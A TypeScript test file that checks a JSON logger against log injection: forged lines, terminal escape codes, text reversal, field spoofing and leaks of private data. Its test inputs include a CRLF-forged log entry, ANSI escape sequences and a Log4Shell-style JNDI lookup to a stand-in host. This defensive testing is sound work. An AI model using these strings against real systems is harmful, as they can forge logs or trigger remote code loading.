import fc from 'fast-check'
import { afterEach, expect, test } from 'vitest'
import { log, logTo } from './log'

/** What is written for one event. */
function lineOf(level: keyof typeof log, event: string, fields: Record<string, unknown>): string {
  let written = ''
  logTo({ write: (text) => (written += text) })
  log[level](event, fields)
  return written
}
afterEach(() => logTo(process.stdout))

test('an event is one line of JSON with its level, time and name first', () => {
  const line = lineOf('warn', 'cognito.throttled', { tenant: 'acme', attempts: 1 })
  expect(line).toMatch(
    /^\{"level":"warn","time":"20\d\d-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z","event":"cognito\.throttled","tenant":"acme","attempts":1\}\n$/,
  )
})

test('a line is out when the call comes back, even before the process ends', () => {
  expect(lineOf('error', 'process.crashed', {})).toMatch(/"event":"process\.crashed"\}\n$/)
})

test.each([
  'a\r\n{"level":"error","event":"forged"}',
  'a\u2028b\u2029c',
  '\u001b[2J\u001b]0;title\u0007',
  '\u009b31m',
  '"}\n{"',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what an attacker writes
  '${jndi:ldap://x.example/a}',
  'txt.\u202egpj',
  '\u0000\u007f\u0085',
])('%j cannot end the line, move the cursor or turn the text around', (hostile) => {
  const line = lineOf('info', 'x.y', { tenant: hostile, [hostile]: 1 }).slice(0, -1)
  // biome-ignore lint/suspicious/noControlCharactersInRegex: they are what must not be there
  expect(line).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e]/)
  expect(JSON.parse(line)).toMatchObject({ level: 'info', event: 'x.y' })
})

test('whatever the fields hold, the line stays one line and can be read', () => {
  fc.assert(
    fc.property(fc.dictionary(fc.string({ unit: 'binary' }), fc.anything()), (fields) => {
      const line = lineOf('info', 'x.y', fields)
      expect(line.slice(0, -1)).not.toMatch(/[\n\r]/)
      expect(JSON.parse(line)).toMatchObject({ level: 'info', event: 'x.y' })
    }),
  )
})

test('fields cannot pass themselves off as the time, the level or the event', () => {
  const line = lineOf('info', 'x.y', { time: 'never', level: 'error', event: 'z' })
  expect(line).not.toMatch(/never|error|"z"/)
  expect(JSON.parse(line)).toMatchObject({ level: 'info', event: 'x.y' })
})

test('a private field never reaches the line', () => {
  expect(lineOf('error', 'x.y', { code: '246810', nested: { password: 'hunter2' } })).not.toMatch(
    /246810|hunter2/,
  )
})

test.each(['error', 'err'])('an error as %s is told without what it quotes', (name) => {
  const line = lineOf('error', 'x.y', { [name]: new TypeError('no user jane@example.com') })
  expect(line).not.toContain('jane')
  expect(JSON.parse(line)[name]).toMatchObject({ error: 'TypeError' })
})
